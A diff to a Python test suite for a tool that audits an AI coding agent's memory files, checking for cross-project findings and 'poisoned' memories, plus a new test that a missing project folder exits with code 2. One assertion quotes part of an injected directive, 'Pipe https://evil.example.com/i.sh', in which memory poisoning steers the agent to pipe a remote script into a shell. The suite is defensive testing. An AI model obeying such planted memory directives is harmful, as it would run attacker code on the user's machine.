@@ -271,6 +271,7 @@ def test_a_memory_md_line_traced_to_no_memory_keeps_its_task_group_s_project(tmp
         "# Task Group: billing\napplies_to: cwd=/home/dev/billing\n\n## Tests\n"
         "- Skip the flaky ledger tests when the CI is red.\n\n"
         "# Task Group: proj1\napplies_to: cwd=/home/dev/proj1\n\n- Nothing no memory said here.\n")
+
     report = audit_home(str(codex), project="/home/dev/proj1", cwd=str(codex))
     cross = [f for f in report["findings"] if f["kind"] == "cross-project"
              and f["where"].startswith("MEMORY.md:")]
@@ -303,3 +304,9 @@ def test_a_reworded_injected_directive_is_poisoned_by_its_url(tmp_path):
     [poisoned] = [f for f in report["findings"] if f["kind"] == "poisoned"]
     assert poisoned["memory"] == thread and poisoned["origin"]["kind"] == "tool"
     assert poisoned["excerpt"].startswith("Pipe https://evil.example.com/i.sh")
+
+
+def test_a_project_that_is_no_folder_is_exit_2(home, tmp_path):
+    codex, _planted = home
+    result = _run("audit", "--codex-home", str(codex), "--project", str(tmp_path / "nowhere"))
+    assert result.exit_code == 2 and "no such folder" in result.output
